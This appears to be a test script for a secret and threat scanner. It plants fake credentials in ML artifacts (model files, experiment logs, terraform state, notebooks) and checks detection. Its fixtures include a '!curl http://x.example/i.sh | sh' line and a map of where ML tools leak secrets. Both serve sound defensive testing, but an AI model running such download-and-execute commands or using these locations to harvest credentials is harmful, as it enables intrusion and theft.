# Where ML tools keep what nobody meant to keep: each place gives its credential, with its place.
set +e
python3 - <<'END' || skip "no python3"
import json, os, random, string, struct
random.seed(5)
letters = string.ascii_letters + string.digits
text = lambda n: "".join(random.choice(letters) for _ in range(n))
token = "hf_" + "".join(random.choice(string.ascii_letters) for _ in range(34))
def write(path, data):
    if os.path.dirname(path): os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(data if isinstance(data, bytes) else data.encode())
# Larger than what is searched as a whole.
head = json.dumps({"__metadata__": {"note": "token " + token}, "a": {"dtype": "F32", "shape": [600000], "data_offsets": [0, 2400000]}}).encode()
write("t/big.safetensors", struct.pack("<Q", len(head)) + head + os.urandom(2400000))
name = lambda x: struct.pack("<Q", len(x)) + x.encode()
tokens = b"".join(name("piece%07d" % i) for i in range(120000))
g = b"GGUF" + struct.pack("<IQQ", 3, 0, 3) + name("general.name") + struct.pack("<I", 8) + name("m")
g += name("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 120000) + tokens
g += name("general.description") + struct.pack("<I", 8) + name("made with " + token) + os.urandom(64)
write("t/big.gguf", g + os.urandom(3000000))
write("t/mlruns/0/ab/params/api_key", text(20))
write("t/mlruns/0/ab/params/learning_rate", "0.001")
write("t/wandb/run-1/files/wandb-metadata.json", json.dumps({"args": ["--api-key", text(20), "--epochs", "3"]}))
write("t/events.out.tfevents.1", struct.pack("<Q", 100) + b"\0\0\0\0text token: " + token.encode() + os.urandom(100000))
write("t/terraform.tfstate", json.dumps({"version": 4, "resources": [{"type": "aws_db_instance", "instances": [{"attributes": {"password": text(18)}}]}]}))
widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": "PasswordModel", "state": {"value": token}}}}}
write("t/login.ipynb", json.dumps({"cells": [], "metadata": {"widgets": widgets}, "nbformat": 4, "nbformat_minor": 5}))
END
"$PARAPET" facts t -k credential > facts
for place in big.safetensors big.gguf mlruns/0/ab/params/api_key wandb-metadata.json events.out.tfevents.1 terraform.tfstate 'login.ipynb!/widget-state.json'; do
  grep -A1 -F "$place" facts | grep -q '0 credential\|[0-9] credential' || { cat facts; fail "nothing is found in $place"; }
done
grep -q learning_rate facts && fail "a learning rate is no credential"

# What a cell pipes into a shell is one finding, not one for the notebook, the cell and its line.
printf '{"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["!curl http://x.example/i.sh | sh"], "outputs": []}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}' > pipe.ipynb
"$PARAPET" scan pipe.ipynb -f json > pipe.json
[ "$(grep -c '"rule": "network-exploitation/pipe_to_shell"' pipe.json)" = 1 ] || fail "a download piped into a shell is told more than once"

# Notebooks kept as Python.
printf '# %%%%\nimport os\n# %%pip install torch==1.0\n# !curl http://x.example/i.sh | sh\n' > cells.py
"$PARAPET" facts cells.py -k dependency -k code > cells
grep -q 'torch==1.0' cells && grep -q 'line 4' cells || { cat cells; fail "the commands of cells in a Python file are not read"; }

# What one encoded run hides past 1 MiB is said not to have been searched.
python3 -c 'import base64; print("x = \"" + base64.b64encode(b"plain text " * 200000).decode() + "\"")' > long.txt
"$PARAPET" scan long.txt | grep -q 'encoded run' || fail "a run that decodes to more than 1 MiB is not told"
